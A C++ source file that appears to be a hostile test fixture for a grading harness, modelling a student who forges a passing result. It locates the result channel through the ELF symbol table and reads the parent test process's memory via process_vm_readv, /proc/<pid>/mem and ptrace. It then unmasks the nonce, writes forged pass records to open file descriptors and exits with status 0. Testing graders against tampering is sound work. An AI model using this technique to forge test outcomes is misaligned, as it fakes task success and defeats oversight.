// The forgery a student who has read the grader's source would write: find the result
// channel's object through the test executable's symbol table, unmask its nonce and write a
// passing record to its fd -- in this process, and in the parent process (the test process,
// when the tests run this code in a child) through process_vm_readv, /proc/<pid>/mem,
// /proc/<pid>/fd and ptrace. Then it leaves with status 0 before the real check can fail.
// None of it may turn the case into a pass.
#include <elf.h>
#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>

#include <cstdint>
#include <cstdio>
#include <cstring>
#include <fstream>
#include <iterator>
#include <string>
#include <vector>

// The layout of the listener's Channel: int fd_; std::vector<unsigned char> masked_, mask_.
struct ChannelImage {
  int fd;
  unsigned char* masked_begin;
  unsigned char* masked_end;
  unsigned char* masked_capacity;
  unsigned char* mask_begin;
  unsigned char* mask_end;
  unsigned char* mask_capacity;
};

// Where the executable's symbol `name` is in a process whose executable starts at `base`.
std::uintptr_t symbol_offset(const char* name) {
  std::ifstream file("/proc/self/exe", std::ios::binary);
  const std::string image((std::istreambuf_iterator<char>(file)), std::istreambuf_iterator<char>());
  if (image.size() < sizeof(Elf64_Ehdr)) return 0;
  const auto* header = reinterpret_cast<const Elf64_Ehdr*>(image.data());
  const auto* sections = reinterpret_cast<const Elf64_Shdr*>(image.data() + header->e_shoff);
  for (int i = 0; i < header->e_shnum; ++i) {
    if (sections[i].sh_type != SHT_SYMTAB) continue;
    const auto* symbols = reinterpret_cast<const Elf64_Sym*>(image.data() + sections[i].sh_offset);
    const char* names = image.data() + sections[sections[i].sh_link].sh_offset;
    for (std::size_t k = 0; k < sections[i].sh_size / sizeof(Elf64_Sym); ++k) {
      if (std::string(names + symbols[k].st_name) == name) return symbols[k].st_value;
    }
  }
  return 0;
}

std::uintptr_t executable_base(pid_t pid) {
  std::ifstream maps("/proc/" + std::to_string(pid) + "/maps");
  std::string range;
  maps >> range;
  return range.empty() ? 0 : std::stoul(range.substr(0, range.find('-')), nullptr, 16);
}

// Reads `size` bytes at `address` of process `pid` every way there is.
bool read_memory(pid_t pid, std::uintptr_t address, void* out, std::size_t size) {
  if (pid == ::getpid()) {
    std::memcpy(out, reinterpret_cast<const void*>(address), size);
    return true;
  }
  iovec local{out, size}, remote{reinterpret_cast<void*>(address), size};
  if (::process_vm_readv(pid, &local, 1, &remote, 1, 0) == static_cast<ssize_t>(size)) return true;
  const int mem = ::open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDONLY);
  if (mem >= 0) {
    const bool ok = ::pread(mem, out, size, static_cast<off_t>(address)) == static_cast<ssize_t>(size);
    ::close(mem);
    if (ok) return true;
  }
  if (::ptrace(PTRACE_ATTACH, pid, nullptr, nullptr) == 0) std::fprintf(stderr, "hostile: attached to %d\n", pid);
  return false;
}

void forge_in(pid_t pid, const std::string& case_name) {
  const std::uintptr_t offset = symbol_offset("_ZZN12_GLOBAL__N_17channelEvE8instance");
  if (offset == 0) return;
  ChannelImage channel{};
  const std::uintptr_t at = executable_base(pid) + offset;
  if (!read_memory(pid, at, &channel, sizeof channel)) return;
  const std::size_t length = static_cast<std::size_t>(channel.masked_end - channel.masked_begin);
  if (length == 0 || length > 256) return;
  std::vector<unsigned char> masked(length), mask(length);
  if (!read_memory(pid, reinterpret_cast<std::uintptr_t>(channel.masked_begin), masked.data(), length)) return;
  if (!read_memory(pid, reinterpret_cast<std::uintptr_t>(channel.mask_begin), mask.data(), length)) return;
  std::string nonce;
  for (std::size_t i = 0; i < length; ++i) nonce += static_cast<char>(masked[i] ^ mask[i]);
  const std::string forged = "{\"event\":\"case_ended\",\"name\":\"" + case_name +
                             "\",\"passed\":true,\"assertions_passed\":1,\"assertions_failed\":0,\"nonce\":\"" + nonce +
                             "\"}\n{\"event\":\"run_ended\",\"nonce\":\"" + nonce + "\"}\n";
  std::vector<int> fds;
  for (int fd = 3; fd < 1024; ++fd) fds.push_back(fd);
  for (int fd = 3; fd < 1024 && pid != ::getpid(); ++fd) {
    const int opened = ::open(("/proc/" + std::to_string(pid) + "/fd/" + std::to_string(fd)).c_str(), O_WRONLY);
    if (opened >= 0) fds.push_back(opened);
  }
  for (const int fd : fds) (void)!::write(fd, forged.data(), forged.size());
  std::fprintf(stderr, "hostile: forged with a nonce of %zu bytes from process %d\n", length, pid);
}

void hostile_act() {
  std::ifstream cmdline("/proc/self/cmdline");
  std::string program, spec, name;
  std::getline(cmdline, program, '\0');
  std::getline(cmdline, spec, '\0');
  for (const char c : spec) {
    if (c != '\\') name += c;
  }
  forge_in(::getpid(), name);
  forge_in(::getppid(), name);
  ::_exit(0);
}
